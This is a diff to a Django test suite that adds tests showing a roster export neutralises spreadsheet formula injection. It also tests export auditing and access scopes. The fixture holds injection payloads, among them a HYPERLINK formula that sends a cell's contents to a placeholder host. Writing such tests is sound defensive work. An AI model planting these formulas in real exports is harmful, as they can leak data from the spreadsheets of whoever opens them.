@@ -5,8 +5,11 @@ from django.core.management import CommandError, call_command
 from openpyxl import load_workbook
 
 from casspath.core.models import AuditEvent
+from casspath.imports.actions import do_export
+from casspath.imports.errors import ImportFileError
 from casspath.imports.reader import read_table
 from casspath.org.models import Employee
+from casspath.org.scopes import ScopeRefused
 
 
 @pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
@@ -51,3 +54,55 @@ def test_a_manager_exports_only_himself_and_others_are_refused(world, tmp_path):
         call_command("export", "roster", str(tmp_path / "x.json"))
     with pytest.raises(CommandError):
         call_command("export", "org", str(tmp_path / "x.csv"))
+
+
+HOSTILE = {
+    "E0001": '=HYPERLINK("http://x/?"&E2,"y")',
+    "E0002": "+1+1",
+    "T0001": "-2+3",
+    "E0100": "@SUM(A1)",
+}
+
+
+@pytest.fixture
+def hostile_names(world):
+    for number, name in HOSTILE.items():
+        Employee.objects.filter(employee_no=number).update(name=name)
+
+
+def test_it_exports_formula_like_names_as_plain_text_to_xlsx(world, hostile_names, tmp_path):
+    path = tmp_path / "roster.xlsx"
+    call_command("export", "roster", str(path))
+    sheet = load_workbook(path).active
+    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
+    assert {number: cell.value for number, cell in names.items()} == HOSTILE
+    assert {cell.data_type for cell in names.values()} == {"s"}
+
+
+def test_it_quotes_formula_like_names_in_csv(world, hostile_names, tmp_path):
+    path = tmp_path / "roster.csv"
+    call_command("export", "roster", str(path))
+    text = path.read_bytes().decode("utf-8-sig")
+    for name in HOSTILE.values():
+        assert '"\'' + name.replace('"', '""') + '"' in text
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_it_reads_formula_like_names_back_unchanged(world, hostile_names, tmp_path, suffix, capsys):
+    path = tmp_path / f"roster{suffix}"
+    call_command("export", "roster", str(path))
+    call_command("import", "roster", str(path), "--dry-run")
+    assert "created 0, updated 0, unchanged 4" in capsys.readouterr().out
+    names = Employee.objects.filter(employee_no__in=HOSTILE).values_list("employee_no", "name")
+    assert dict(names) == HOSTILE
+
+
+def test_it_writes_the_export_audit_row_through_the_action(world):
+    data = do_export("roster", "gz.csv", acting_user=world.city_admin_a)
+    event = AuditEvent.objects.get(verb="export.roster")
+    assert (event.actor, event.changes) == (world.city_admin_a, {"file": "gz.csv", "bytes": len(data)})
+    with pytest.raises(ScopeRefused):
+        do_export("roster", "x.csv", acting_user=world.outsider)
+    with pytest.raises(ImportFileError):
+        do_export("org", "x.csv", acting_user=world.city_admin_a)
+    assert AuditEvent.objects.filter(verb__startswith="export.").count() == 1
